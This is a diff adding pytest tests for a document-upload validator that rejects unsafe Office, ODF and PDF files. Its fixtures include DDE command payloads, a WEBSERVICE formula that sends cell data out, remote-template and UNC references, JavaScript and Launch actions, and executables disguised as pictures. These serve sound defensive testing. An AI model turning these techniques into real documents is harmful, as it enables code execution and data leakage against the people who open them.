@@ -1,0 +1,528 @@
+"""Documents that load, send or start something are refused, with a sentence that names the part."""
+
+import subprocess
+import zlib
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from outcomes.evidence import parts as office_parts
+from outcomes.evidence import pdf as pdf_files
+from outcomes.evidence.pdf_objects import unsafe_name
+from outcomes.evidence.validation import check_file
+from tests.outcomes.evidence.documents import (
+    DOCX,
+    JPEG,
+    ODS,
+    PNG,
+    WORD,
+    docx,
+    docx_saying,
+    docx_with,
+    field,
+    odf,
+    pdf,
+    pptx_with,
+    relationship,
+    stream,
+    xlsx,
+    xlsx_counting,
+    zipped,
+)
+
+AS_PDF = "Save the document as a PDF, then choose the PDF."
+UNREADABLE = (
+    "We cannot read this as an office document. Save it again or as a PDF, then choose it again."
+)
+
+
+@pytest.fixture
+def pdf_in_this_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Starting a process for each PDF would take longer than the tests."""
+    monkeypatch.setattr(
+        pdf_files, "run_limited", lambda _module, content: (unsafe_name(content) or "").encode()
+    )
+
+
+def sentence(content: bytes) -> str:
+    with pytest.raises(ValidationError) as refusal:
+        check_file(SimpleUploadedFile("a", content))
+    [said] = refusal.value.messages
+    return said
+
+
+def is_taken(content: bytes) -> bool:
+    check_file(SimpleUploadedFile("a", content))
+    return True
+
+
+def loads(target: str) -> str:
+    return f"The document loads “{target}” from elsewhere when someone opens it. {AS_PDF}"
+
+
+def links(target: str) -> str:
+    return f"A link leads to “{target}”, which is not a web or email address. {AS_PDF}"
+
+
+def has_field(name: str) -> str:
+    return f"The field “{name}” can load something or start a program. {AS_PDF}"
+
+
+def contains(name: str, part: str) -> str:
+    return f"“{name}” in the part “{part}” can load something or start a program. {AS_PDF}"
+
+
+def is_program(part: str) -> str:
+    return f"The part “{part}” is a macro, a program or an object of another program. {AS_PDF}"
+
+
+def counts(formula: str) -> str:
+    return f"The formula “{formula}” can load something or start a program. {AS_PDF}"
+
+
+def vml(shape: str) -> bytes:
+    names = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:o"'
+    return docx({"word/drawing1.vml": f"<xml {names}>{shape}</xml>"})
+
+
+RELS = "word/_rels/document.xml.rels"
+HTTP, UNC = "http://192.0.2.1/a.png", "\\\\192.0.2.1\\share\\a.png"
+OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
+    ("picture by http", lambda: docx_with("image", HTTP), loads(HTTP)),
+    ("picture by UNC", lambda: docx_with("image", UNC), loads(UNC)),
+    (
+        "picture by file",
+        lambda: docx_with("image", "file://192.0.2.1/a"),
+        loads("file://192.0.2.1/a"),
+    ),
+    (
+        "picture that says to be inside",
+        lambda: docx_with("image", "//192.0.2.1/a.png", is_external=False),
+        loads("//192.0.2.1/a.png"),
+    ),
+    (
+        "template",
+        lambda: docx_with("attachedTemplate", "https://a.example/t.dotm"),
+        loads("https://a.example/t.dotm"),
+    ),
+    ("frame", lambda: docx_with("frame", HTTP), loads(HTTP)),
+    ("sub-document", lambda: docx_with("subDocument", UNC), loads(UNC)),
+    ("linked OLE", lambda: docx_with("oleObject", UNC), loads(UNC)),
+    (
+        "HTML inside",
+        lambda: docx_with("aFChunk", "a.xml", is_external=False),
+        contains("aFChunk", RELS),
+    ),
+    (
+        "ActiveX",
+        lambda: docx_with("control", "a.xml", is_external=False),
+        contains("control", RELS),
+    ),
+    (
+        "link to a file",
+        lambda: docx_with("hyperlink", "file:///C:/a.exe"),
+        links("file:///C:/a.exe"),
+    ),
+    ("link to a share", lambda: docx_with("hyperlink", UNC), links(UNC)),
+    ("link to a script", lambda: docx_with("hyperlink", "javascript:a"), links("javascript:a")),
+    (
+        "INCLUDEPICTURE",
+        lambda: docx_saying(field(f' INCLUDEPICTURE "{HTTP}" \\d ')),
+        has_field("INCLUDEPICTURE"),
+    ),
+    ("INCLUDETEXT", lambda: docx_saying(field(f'INCLUDETEXT "{HTTP}"')), has_field("INCLUDETEXT")),
+    (
+        "DDEAUTO over runs",
+        lambda: docx_saying(field("DD", "EAU", "TO c:\\\\cmd.exe")),
+        has_field("DDEAUTO"),
+    ),
+    ("DDE in small letters", lambda: docx_saying(field('dde Excel "a"')), has_field("dde")),
+    (
+        "DDE as simple field",
+        lambda: docx_saying('<w:fldSimple w:instr=" DDE Excel a "><w:r/></w:fldSimple>'),
+        has_field("DDE"),
+    ),
+    (
+        "name from a field inside",
+        lambda: docx_saying(
+            '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText>'
+            f'{field(" QUOTE 68 ")}<w:instrText>E</w:instrText><w:fldChar w:fldCharType="end"/>'
+        ),
+        has_field("D\ufffcE"),
+    ),
+    (
+        "deleted name before",
+        lambda: docx_saying(
+            '<w:fldChar w:fldCharType="begin"/><w:delInstrText>PAGE </w:delInstrText>'
+            '<w:instrText>DDEAUTO a</w:instrText><w:fldChar w:fldCharType="end"/>'
+        ),
+        has_field("DDEAUTO"),
+    ),
+    (
+        "end that Word leaves out",
+        lambda: docx_saying(
+            '<w:fldChar w:fldCharType="begin"/><x:x xmlns:x="x"><w:instrText>PAGE</w:instrText>'
+            '<w:fldChar w:fldCharType="end"/></x:x><w:instrText>DDEAUTO a</w:instrText>'
+        ),
+        has_field("DDEAUTO"),
+    ),
+    (
+        "field without a begin",
+        lambda: docx_saying("<w:instrText>DDEAUTO a</w:instrText>"),
+        has_field("DDEAUTO"),
+    ),
+    ("link field", lambda: docx_saying(field('HYPERLINK "file://a/b"')), links("file://a/b")),
+    (
+        "link field with a tip",
+        lambda: docx_saying(field('HYPERLINK \\o "tip" \\\\a\\b')),
+        links("a"),
+    ),
+    (
+        "mail merge",
+        lambda: docx({"word/settings.xml": f"<w:settings {WORD}><w:mailMerge/></w:settings>"}),
+        contains("mailMerge", "word/settings.xml"),
+    ),
+    ("drawing with an address", lambda: vml(f'<v:imagedata src="{HTTP}"/>'), loads(HTTP)),
+    ("drawing with a linked address", lambda: vml(f'<v:imagedata o:href="{HTTP}"/>'), loads(HTTP)),
+    (
+        "OLE inside",
+        lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
+        is_program("word/embeddings/oleObject1.bin"),
+    ),
+    (
+        "program inside",
+        lambda: docx({"word/media/a.exe": b"MZ\x90"}),
+        is_program("word/media/a.exe"),
+    ),
+    (
+        "program as picture",
+        lambda: docx({"word/media/image1.png": b"MZ\x90" + bytes(80)}),
+        f"The part “word/media/image1.png” is not a picture, as its name says. {AS_PDF}",
+    ),
+    (
+        "program as printer settings",
+        lambda: docx({"a.dat": b"MZ"}, **{"a.dat": DOCX.replace("document", "printerSettings")}),
+        is_program("a.dat"),
+    ),
+    ("macro", lambda: docx({"word/vbaProject.bin": b"x"}), is_program("word/vbaProject.bin")),
+    (
+        "macro document",
+        lambda: docx(
+            **{"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
+        ),
+        is_program("word/document.xml"),
+    ),
+    (
+        "XML of another kind",
+        lambda: docx({"a.xml": "<a/>"}, **{"a.xml": "application/vnd.ms-office.webextension+xml"}),
+        f"The part “a.xml” is not of a kind that a document needs. {AS_PDF}",
+    ),
+    (
+        "name that leaves the folder",
+        lambda: docx({"../../a.png": PNG}),
+        f"The name of the part “../../a.png” is not allowed. {AS_PDF}",
+    ),
+    (
+        "name with a drive",
+        lambda: docx({"C:\\a.png": PNG}),
+        f"The name of the part “C:\\a.png” is not allowed. {AS_PDF}",
+    ),
+    (
+        "name from the root",
+        lambda: docx({"/a.png": PNG}),
+        f"The name of the part “/a.png” is not allowed. {AS_PDF}",
+    ),
+    ("names that differ by case", lambda: docx({"a.png": PNG, "A.PNG": PNG}), UNREADABLE),
+    (
+        "document type",
+        lambda: docx({"a.xml": '<!DOCTYPE a SYSTEM "http://a/"><a/>'}),
+        contains("DOCTYPE", "a.xml"),
+    ),
+    (
+        "script in a picture",
+        lambda: docx({"a.svg": "<svg><script/></svg>"}),
+        contains("script", "a.svg"),
+    ),
+    (
+        "picture in a picture",
+        lambda: docx({"a.svg": f'<svg><image href="{HTTP}"/></svg>'}),
+        loads(HTTP),
+    ),
+    (
+        "style of a picture",
+        lambda: docx({"a.svg": "<svg><style>@import 'a'</style></svg>"}),
+        loads("@import 'a'"),
+    ),
+    (
+        "event of a picture",
+        lambda: docx({"a.svg": '<svg onload="a()"/>'}),
+        contains("onload", "a.svg"),
+    ),
+    (
+        "WEBSERVICE",
+        lambda: xlsx_counting('_xlfn.WEBSERVICE("http://a/"&amp;A1)'),
+        counts('_xlfn.WEBSERVICE("http://a/"&A1)'),
+    ),
+    (
+        "IMAGE",
+        lambda: xlsx_counting('_xlfn.IMAGE("http://a/")'),
+        counts('_xlfn.IMAGE("http://a/")'),
+    ),
+    ("RTD", lambda: xlsx_counting('rtd ("a",,"b")'), counts('rtd ("a",,"b")')),
+    ("DDE formula", lambda: xlsx_counting("cmd|'/c calc'!A0"), counts("cmd|'/c calc'!A0")),
+    (
+        "DDE after a quote",
+        lambda: xlsx_counting("'a\"'!A1+cmd|'b'!A0&amp;\"\""),
+        counts("'a\"'!A1+cmd|'b'!A0&\"\""),
+    ),
+    ("other workbook", lambda: xlsx_counting("[1]Sheet1!A1"), counts("[1]Sheet1!A1")),
+    (
+        "workbook on a share",
+        lambda: xlsx_counting("'\\\\a\\[b.xlsx]S'!A1"),
+        counts("'\\\\a\\[b.xlsx]S'!A1"),
+    ),
+    (
+        "link formula",
+        lambda: xlsx_counting('HYPERLINK("file:///a")'),
+        counts('HYPERLINK("file:///a")'),
+    ),
+    (
+        "link to a workbook",
+        lambda: xlsx(
+            parts={
+                "xl/_rels/workbook.xml.rels": relationship(
+                    "externalLink", "a.xml", is_external=False
+                )
+            }
+        ),
+        contains("externalLink", "xl/_rels/workbook.xml.rels"),
+    ),
+    (
+        "connection",
+        lambda: xlsx(
+            parts={"xl/connections.xml": "<connections/>"},
+            **{
+                "xl/connections.xml": DOCX.replace(
+                    "wordprocessingml.document", "spreadsheetml.connections+xml"
+                )
+            },
+        ),
+        f"The part “xl/connections.xml” is not of a kind that a document needs. {AS_PDF}",
+    ),
+    (
+        "program on a slide",
+        lambda: pptx_with('<sld><hlinkClick action="ppaction://program"/></sld>'),
+        contains("ppaction://program", "ppt/slides/slide1.xml"),
+    ),
+    (
+        "document in a document",
+        lambda: docx({"word/embeddings/a.xlsx": docx()}),
+        is_program("word/embeddings/a.xlsx"),
+    ),
+    (
+        "macro in the workbook of a chart",
+        lambda: docx({"word/embeddings/a.xlsx": xlsx(parts={"xl/vbaProject.bin": b"x"})}),
+        is_program("xl/vbaProject.bin"),
+    ),
+    (
+        "workbook in the workbook of a chart",
+        lambda: docx({"word/embeddings/a.xlsx": xlsx(parts={"b.xlsx": xlsx()})}),
+        is_program("b.xlsx"),
+    ),
+    ("ODF picture by http", lambda: odf(f'<draw:image xlink:href="{HTTP}"/>'), loads(HTTP)),
+    (
+        "ODF picture beside it",
+        lambda: odf('<draw:image xlink:href="../a.png"/>'),
+        loads("../a.png"),
+    ),
+    ("ODF link to a file", lambda: odf('<text:a xlink:href="file:///a"/>'), links("file:///a")),
+    (
+        "ODF link to a macro",
+        lambda: odf('<text:a xlink:href="vnd.sun.star.script:a"/>'),
+        links("vnd.sun.star.script:a"),
+    ),
+    (
+        "ODF section",
+        lambda: odf(f'<text:section-source xlink:href="{HTTP}"/>'),
+        contains("section-source", "content.xml"),
+    ),
+    ("ODF frame", lambda: odf("<draw:floating-frame/>"), contains("floating-frame", "content.xml")),
+    ("ODF plug-in", lambda: odf("<draw:plugin/>"), contains("plugin", "content.xml")),
+    ("ODF applet", lambda: odf("<draw:applet/>"), contains("applet", "content.xml")),
+    (
+        "ODF event",
+        lambda: odf("<script:event-listener/>"),
+        contains("event-listener", "content.xml"),
+    ),
+    (
+        "ODF DDE",
+        lambda: odf('<office:dde-source office:dde-application="soffice"/>'),
+        contains("dde-source", "content.xml"),
+    ),
+    (
+        "ODF DDE formula",
+        lambda: odf("<table:c table:formula=\"of:=DDE('a';'b')\"/>", kind=ODS),
+        counts("of:=DDE('a';'b')"),
+    ),
+    (
+        "ODF other file",
+        lambda: odf("<table:c table:formula=\"of:=['file:///a.ods'#$S.A1]\"/>", kind=ODS),
+        counts("of:=['file:///a.ods'#$S.A1]"),
+    ),
+    (
+        "ODF action",
+        lambda: odf('<presentation:e presentation:action="execute"/>'),
+        contains("execute", "content.xml"),
+    ),
+    (
+        "ODF macro",
+        lambda: odf("", {"Basic/script-lc.xml": "<a/>"}),
+        is_program("Basic/script-lc.xml"),
+    ),
+    (
+        "ODF object of another program",
+        lambda: odf("", {"Object 1": b"\xd0\xcf\x11\xe0"}),
+        is_program("Object 1"),
+    ),
+    (
+        "ODF program as picture",
+        lambda: odf("", {"Pictures/a.png": b"MZ"}),
+        f"The part “Pictures/a.png” is not a picture, as its name says. {AS_PDF}",
+    ),
+    ("ODF template by http", lambda: odf(f'<meta:template xlink:href="{HTTP}"/>'), loads(HTTP)),
+    (
+        "ODF that is locked",
+        lambda: odf("", {"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
+        "This document is locked. Choose a document without a password.",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in OFFICE_FILES]
+)
+def test_unsafe_office_file_is_refused_by_name(make: Callable[[], bytes], said: str) -> None:
+    assert sentence(make()) == said
+
+
+def names(part: str) -> str:
+    return (
+        f"This PDF contains “{part}”, which can load, send or start something. Print it to a new "
+        "PDF, then choose the new PDF."
+    )
+
+
+def pdf_doing(action: str) -> bytes:
+    return pdf(catalog=f"/OpenAction<<{action}>>")
+
+
+def pdf_noting(subtype: str, more: str = "") -> bytes:
+    return pdf(f"<</Type/Annot/Subtype/{subtype}/Rect[0 0 1 1]{more}>>")
+
+
+PDF_FILES: list[tuple[str, Callable[[], bytes], str]] = [
+    ("SubmitForm", lambda: pdf_doing("/S/SubmitForm/F(http://a/)"), names("SubmitForm")),
+    ("ImportData", lambda: pdf_doing("/S/ImportData/F(a)"), names("ImportData")),
+    ("GoToR", lambda: pdf_doing("/S/GoToR/F(a.pdf)"), names("GoToR")),
+    ("GoToE", lambda: pdf_doing("/S/GoToE/T<<>>"), names("GoToE")),
+    ("escaped name", lambda: pdf_doing("/S/GoTo#52/F(a.pdf)"), names("GoToR")),
+    ("script", lambda: pdf_doing("/S/JavaScript/JS(a)"), names("JavaScript")),
+    ("script without a kind", lambda: pdf("<</JS(a)>>"), names("JS")),
+    ("program", lambda: pdf_doing("/S/Launch/F(a.exe)"), names("Launch")),
+    ("Rendition", lambda: pdf_doing("/S/Rendition"), names("Rendition")),
+    ("Sound", lambda: pdf_doing("/S/Sound"), names("Sound")),
+    ("Movie", lambda: pdf_noting("Movie"), names("Movie")),
+    ("Screen", lambda: pdf_noting("Screen"), names("Screen")),
+    ("3D", lambda: pdf_noting("3D"), names("3D")),
+    ("attached file", lambda: pdf_noting("FileAttachment"), names("FileAttachment")),
+    ("menu command", lambda: pdf_doing("/S/Named/N/Quit"), names("Quit")),
+    ("action after an action", lambda: pdf_doing("/S/GoTo/Next[<</S/Hide>>]"), names("Hide")),
+    ("action of an event", lambda: pdf("<</AA<</O<</S/ResetForm>>>>>>"), names("ResetForm")),
+    (
+        "link to a file",
+        lambda: pdf_noting("Link", "/A<</S/URI/URI(file://a/b)>>"),
+        names("file://a/b"),
+    ),
+    (
+        "link to a share",
+        lambda: pdf_noting("Link", "/A<</S/URI/URI(\\\\\\\\a\\\\b)>>"),
+        names("\\\\a\\b"),
+    ),
+    ("other file", lambda: pdf("<</Type/Filespec/F(a)>>"), names("Filespec")),
+    ("file system of the web", lambda: pdf("<</FS/URL/F(http://a/)>>"), names("FS")),
+    ("content elsewhere", lambda: pdf(stream("/F(http://a/)", b"")), names("Filespec")),
+    (
+        "page of another file",
+        lambda: pdf(stream("/Subtype/Form/Ref<</Page 1>>", b"")),
+        names("Ref"),
+    ),
+    ("form of another kind", lambda: pdf(catalog="/AcroForm<</XFA(a)>>"), names("XFA")),
+    (
+        "action in packed objects",
+        lambda: pdf(
+            stream(
+                "/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"9 0 <</S/GoToR>>")
+            )
+        ),
+        names("GoToR"),
+    ),
+    (
+        "key that hides a password",
+        lambda: pdf().replace(
+            b"/Root", b"/#45ncrypt<</Filter/Standard/V 1/R 2/O(a)/U(a)/P 1>>/Root"
+        ),
+        "This PDF is locked. Choose a PDF without a password.",
+    ),
+]
+
+
+@pytest.mark.usefixtures("pdf_in_this_process")
+@pytest.mark.parametrize(
+    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in PDF_FILES]
+)
+def test_unsafe_pdf_is_refused_by_name(make: Callable[[], bytes], said: str) -> None:
+    assert sentence(make()) == said
+
+
+@pytest.mark.own_process
+def test_pdf_is_checked_in_a_process_with_limits(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert is_taken(pdf())
+    assert sentence(pdf_noting("Screen")) == names("Screen")
+    unknown = "We cannot check this PDF. Print it to a new PDF, then choose the new PDF."
+    assert sentence(b"%PDF-1.4\nnothing\n%%EOF") == unknown
+
+    def busy(*_args: Any, **_options: Any) -> None:
+        raise subprocess.TimeoutExpired("reader", 15)
+
+    monkeypatch.setattr(subprocess, "run", busy)
+    assert sentence(pdf()) == unknown
+
+
+def test_archive_has_at_most_two_thousand_parts() -> None:
+    unpacked = "The file is too large after unpacking. Choose a smaller file."
+    pictures = {f"word/media/{number}.jpeg": JPEG for number in range(1_998)}
+    assert is_taken(docx(pictures))
+    assert sentence(docx(pictures | {"word/media/more.jpeg": JPEG})) == unpacked
+    # The parts of the workbook of a chart count too.
+    del pictures["word/media/0.jpeg"]
+    assert sentence(docx(pictures | {"word/embeddings/a.xlsx": xlsx()})) == unpacked
+
+
+def test_xml_is_parsed_up_to_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(office_parts, "MAX_XML_BYTES", 50_000)
+    assert is_taken(docx({"a.xml": f"<a>{'a' * 40_000}</a>"}))
+    unpacked = "The file is too large after unpacking. Choose a smaller file."
+    assert sentence(docx({"a.xml": f"<a>{'a' * 60_000}</a>"})) == unpacked
+    assert sentence(odf(f"<text:p>{'a' * 60_000}</text:p>")) == unpacked
+
+
+def test_long_name_is_cut_in_the_sentence() -> None:
+    assert sentence(docx({f"{'a' * 200}.exe": b"MZ"})) == is_program("a" * 80 + "…")
+
+
+def test_odf_needs_its_kind_first() -> None:
+    assert sentence(zipped({"content.xml": "<a/>", "mimetype": "application/x"})) == UNREADABLE
+    assert sentence(zipped({"mimetype": "application/x", "content.xml": "<a/>"})) == UNREADABLE
